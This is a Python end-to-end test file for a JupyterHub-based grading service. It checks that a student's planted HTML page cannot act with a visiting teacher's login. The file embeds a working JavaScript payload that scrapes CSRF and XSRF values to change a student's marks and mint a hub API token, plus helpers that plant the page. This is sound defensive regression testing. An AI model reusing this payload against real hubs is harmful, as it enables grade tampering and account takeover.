"""A student's server cannot act with her teacher's login (issue 14).

The attack as it was reported: the student writes an HTML file into her labextensions folder;
her server served it without a login under /user/<student>/lab/extensions/, at the hub's own
address, and the teacher who opened the link ran its script with the teacher's cookies: it
read the CSRF field of a sabaq page to change the student's marks and the XSRF value of
/hub/token to make itself a hub token. Here the same page is planted and opened by the
logged-in teacher, on one address (the default) and with users' servers on their own
subdomains (`sabaq up --host localhost`), where the student even programs her server to
serve the page. Parents get no server at all."""

from __future__ import annotations

import json
import re
import sqlite3
import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

import httpx
import nbformat
import pytest
from browsing import log_in
from playwright.sync_api import expect
from stack import running_stack
from test_browser import shot

pytestmark = [pytest.mark.e2e, pytest.mark.browser]
MARK = "EVIL-WAS-HERE"
EVIL = """<!doctype html><html><body><p>EVIL page</p><script>
const HUB = %(hub)s, SID = %(sid)d, DRY = %(dry)s, MARK = %(mark)s;
async function attack() {
  const out = {};
  try {  // a sabaq page's CSRF field, then the student's marks changed with it
    const page = await (await fetch(HUB + "/services/sabaq/submissions/" + SID, {credentials: "include"})).text();
    const m = page.match(/name="_csrf" value="([^"]+)"/);
    out.csrf = m ? "read" : "not found";
    if (m && !DRY) {
      const body = new URLSearchParams({_csrf: m[1], overall: MARK, "score::motion::why_zero": "0", release: "1"});
      out.marks = (await fetch(HUB + "/services/sabaq/submissions/" + SID + "/marks",
                               {method: "POST", body, credentials: "include"})).status;
    }
  } catch (e) { out.csrf = "blocked: " + e; }
  if (!DRY) {
    try {  // and blindly, without the field
      await fetch(HUB + "/services/sabaq/submissions/" + SID + "/marks", {method: "POST", mode: "no-cors",
        credentials: "include", body: new URLSearchParams({overall: MARK, release: "1"})});
      out.blind = "sent";
    } catch (e) { out.blind = "blocked: " + e; }
  }
  try {  // the hub's XSRF value, then a hub API token for the teacher
    const page = await (await fetch(HUB + "/hub/token", {credentials: "include"})).text();
    const m = page.match(/xsrf_token: "([^"]+)"/);
    out.xsrf = m ? "read" : "not found";
    if (m && !DRY) {
      out.token = (await fetch(HUB + "/hub/api/users/teacher/tokens", {method: "POST", credentials: "include",
        headers: {"X-XSRFToken": m[1], "Content-Type": "application/json"},
        body: JSON.stringify({note: "evil-token"})})).status;
    }
  } catch (e) { out.xsrf = "blocked: " + e; }
  document.title = "evil:" + JSON.stringify(out);
}
attack();
</script></body></html>"""


def evil_page(hub: str, sid: int, dry: bool = False) -> str:
    return EVIL % {"hub": json.dumps(hub), "sid": sid, "dry": "true" if dry else "false", "mark": json.dumps(MARK)}


def login(chromium, stack, name, next_url="/services/sabaq/", lang="en-US"):
    """Logged in to the hub and landed on next_url (sabaq's pages: no server started)."""
    _, page = log_in(chromium, stack, name, locale=lang, next_url=quote(next_url), device={})
    page.wait_for_url(f"**{next_url}**")
    return page


def submit(stack, student: str) -> int:
    from test_gradebook_e2e import SOURCE

    nb = nbformat.read(SOURCE, as_version=4)
    r = stack.api(student).post("/courses/demo/assignments/ps1/submissions",
                                files=[("files", ("motion.ipynb", nbformat.writes(nb).encode(), "x"))])
    assert r.status_code == 201, r.text
    return r.json()["id"]


def marks_of(stack, sid: int) -> dict:
    from sqlalchemy import select

    from sabaq.hub.store.models import Comment, Feedback, ManualGrade

    with stack.sessions()() as db:
        return {
            "grades": sorted((g.notebook, g.grade_id, g.score) for g in
                             db.scalars(select(ManualGrade).where(ManualGrade.submission_id == sid))),
            "comments": sorted((c.notebook, c.grade_id, c.text) for c in
                               db.scalars(select(Comment).where(Comment.submission_id == sid))),
            "released": len(list(db.scalars(select(Feedback).where(Feedback.submission_id == sid)))),
        }


def hub_tokens(stack, name: str) -> list[str]:
    """Notes of a user's hub API tokens, from the hub's own database."""
    with sqlite3.connect(stack.data_dir / "hub" / "jupyterhub.sqlite") as db:
        return [row[0] or "" for row in db.execute(
            "select api_tokens.note from api_tokens join users on users.id = api_tokens.user_id "
            "where users.name = ?", (name,))]


def plant(stack, student: str, files: dict[str, str]) -> None:
    """The student writes files into her home from her own kernel."""
    code = ("import os, json\n"
            f"for path, text in json.loads({json.dumps(json.dumps(files))}).items():\n"
            "    path = os.path.expanduser(path)\n"
            "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
            "    open(path, 'w').write(text)\n"
            "print('planted')\n")
    assert "planted" in run_code(stack, student, code)


def run_code(stack, name: str, code: str) -> str:
    """stack.run_code beside Playwright's event loop (it runs one of its own)."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(stack.run_code, name, code).result()


def opened_by(page, url: str):
    """Open a link; give any script a moment; (status, title, text)."""
    response = page.goto(url)
    page.wait_for_timeout(1500)
    return (response.status if response else None), page.title(), page.inner_text("body")


def test_on_one_address_the_planted_page_is_not_served_and_the_teacher_keeps_her_login(chromium, stack):
    sid = submit(stack, "aliya")
    stack.start_server("aliya")
    page = evil_page("", sid)
    plant(stack, "aliya", {
        "~/.local/share/jupyter/labextensions/x/package.json": '{"name": "x", "version": "1.0.0"}',
        "~/.local/share/jupyter/labextensions/x/static/evil.html": page,
        "~/.local/share/jupyter/labextensions/x/themes/evil.html": page,
        "~/evil.html": page,
    })
    base = f"{stack.url}/user/aliya"
    planted = [f"{base}/lab/extensions/x/static/evil.html", f"{base}/lab/api/themes/evil.html",
               f"{base}/lab/api/themes/x/themes/evil.html"]
    # nobody logged in: not served (it was, before); with JupyterLab's files at the shared
    # address (sharedstatic) /lab/extensions/ is no public route of her server: to the login
    for url in planted:
        r = httpx.get(url, timeout=60)
        assert r.status_code in (302, 303, 404) and b"EVIL" not in r.content, url
    r = httpx.get(f"{base}/files/evil.html", timeout=60)
    assert r.status_code in (302, 303) and "EVIL" not in r.text  # to the login
    # the owner gets her own file only through /files, in a sandbox (an origin of its own)
    mine = httpx.get(f"{base}/files/evil.html", headers={"Authorization": f"token {stack.token('aliya')}"}, timeout=60)
    assert mine.status_code == 200 and "sandbox allow-scripts" in mine.headers["content-security-policy"]

    marks, tokens = marks_of(stack, sid), hub_tokens(stack, "teacher")
    teacher = login(chromium, stack, "teacher")
    # what the page's script would read, were it to run at the hub's address: both secrets
    teacher.evaluate(f"() => {{ {evil_page('', sid, dry=True).split('<script>')[1].split('</script>')[0]} }}")
    expect(teacher).to_have_title('evil:{"csrf":"read","xsrf":"read"}', timeout=30_000)
    for url in planted:
        status, title, text = opened_by(teacher, url)
        assert status in (403, 404) and not title.startswith("evil:") and "EVIL" not in text, url
    status, title, text = opened_by(teacher, f"{base}/files/evil.html")  # the teacher may not enter her server
    assert status == 403 and not title.startswith("evil:") and "EVIL" not in text
    shot(teacher, "teacher-refused-students-server")
    # an administrator holds access:servers to every server; on one address a server admits only its owner
    admin = login(chromium, stack, "admin")
    admin.goto(f"{base}/files/evil.html")
    if admin.locator("form input[type=submit], form button[type=submit]").count():  # the hub asks to authorize
        admin.locator("form input[type=submit], form button[type=submit]").first.click()
        admin.wait_for_load_state()
    admin.wait_for_timeout(1500)
    assert not admin.title().startswith("evil:") and "EVIL page" not in admin.inner_text("body")
    assert "403" in admin.inner_text("body") or "permission" in admin.inner_text("body").lower()

    assert marks_of(stack, sid) == marks
    assert "evil-token" not in hub_tokens(stack, "teacher") and len(hub_tokens(stack, "teacher")) >= len(tokens)


@pytest.fixture(scope="module")
def subdomain_stack(tmp_path_factory):
    """sabaq up --host localhost: each user's server at <login>.localhost."""
    with running_stack(tmp_path_factory.mktemp("subdomains") / "data", host="localhost") as s:
        yield s


def test_with_subdomains_even_a_page_her_own_server_serves_cannot_reach_the_teachers_login(chromium, subdomain_stack):
    stack = subdomain_stack
    sid = submit(stack, "aliya")  # the service through the hub's address, with a server's kind of token
    # the student logs in and lands in her JupyterLab, at her own address
    student = login(chromium, stack, "aliya", next_url="/hub/spawn")
    student.wait_for_url(f"http://aliya.localhost:{stack.port}/user/aliya/lab**", timeout=180_000)
    student.wait_for_selector("#jp-main-dock-panel", timeout=120_000)
    shot(student, "student-lab-on-her-subdomain")
    # from her server, the exchange and the service answer (SABAQ_SERVICE_URL, her server's token)
    out = run_code(stack, "aliya", (
        "from sabaq.client import ServiceClient\n"
        "with ServiceClient.from_environment() as c:\n"
        "    print('courses:', [x['id'] for x in c.get('api/v1/courses').json()])\n"
        "from nbgrader.apps.baseapp import NbGrader\n"
        "from nbgrader.auth import Authenticator\n"
        "from nbgrader.coursedir import CourseDirectory\n"
        "from nbgrader.exchange import ExchangeFactory\n"
        "app = NbGrader()\n"
        "app.load_config_file()  # ~/.jupyter/nbgrader_config.py, as the Assignments panel reads it\n"
        "listing = ExchangeFactory(config=app.config).List(coursedir=CourseDirectory(config=app.config),\n"
        "    authenticator=Authenticator(config=app.config), config=app.config)\n"
        "print('released:', [a['assignment_id'] for a in listing.start()])\n"))
    assert "courses: ['demo']" in out and "released: ['ps1']" in out, out

    # she programs her server to serve her page to anyone, and starts it again
    plant(stack, "aliya", {
        "~/.jupyter/jupyter_server_config.py":
            "import os\nc.ServerApp.extra_static_paths = [os.path.expanduser('~/public')]\n",
        "~/public/evil.html": evil_page(stack.url, sid),
    })
    hub = stack.hub_api(stack.token("aliya"))
    assert hub.delete("/users/aliya/server").status_code in (202, 204)
    deadline = time.monotonic() + 120
    while hub.get("/users/aliya").json().get("servers") and time.monotonic() < deadline:
        time.sleep(0.5)
    stack.start_server("aliya")
    server, host = stack.server("aliya")
    r = httpx.get(f"{server}/static/evil.html", headers=host, timeout=60)
    assert r.status_code == 200 and "EVIL page" in r.text  # served without a login: her server is hers

    marks, tokens = marks_of(stack, sid), hub_tokens(stack, "teacher")
    teacher = login(chromium, stack, "teacher")
    assert teacher.url.startswith(f"http://localhost:{stack.port}/services/sabaq/")  # sabaq's pages: the hub's address
    teacher.goto(f"http://aliya.localhost:{stack.port}/user/aliya/static/evil.html")
    expect(teacher).to_have_title(re.compile("^evil:"), timeout=60_000)  # her script ran ...
    found = json.loads(teacher.title()[len("evil:"):])
    shot(teacher, "teacher-opens-students-page-on-her-subdomain")
    # ... at her address, where it could read nothing of the hub's or sabaq's
    assert found["csrf"].startswith("blocked") and found["xsrf"].startswith("blocked"), found
    assert "marks" not in found and "token" not in found
    time.sleep(1)
    assert marks_of(stack, sid) == marks
    assert "evil-token" not in hub_tokens(stack, "teacher") and len(hub_tokens(stack, "teacher")) >= len(tokens)


def test_a_parent_gets_no_server_and_is_shown_the_way_to_her_childs_page(chromium, stack):
    refused = stack.hub_api(stack.token("parent")).post("/users/parent/server")
    assert refused.status_code == 403
    assert "A parent's account has no JupyterLab" in refused.json()["message"]
    page = login(chromium, stack, "parent", lang="kk-KZ")
    page.goto(f"{stack.url}/hub/spawn")
    from sabaq.hub.jupyterhub.hubconfig import PARENT_LINK, PARENT_TEXT
    from sabaq.i18n import translator

    _ = translator("kk")
    expect(page.get_by_text(_(PARENT_TEXT))).to_be_visible()
    shot(page, "parent-has-no-server")
    page.get_by_role("link", name=_(PARENT_LINK)).click()
    page.wait_for_url("**/services/sabaq/")
    assert not stack.hub_api(stack.token("parent")).get("/users/parent").json().get("servers")
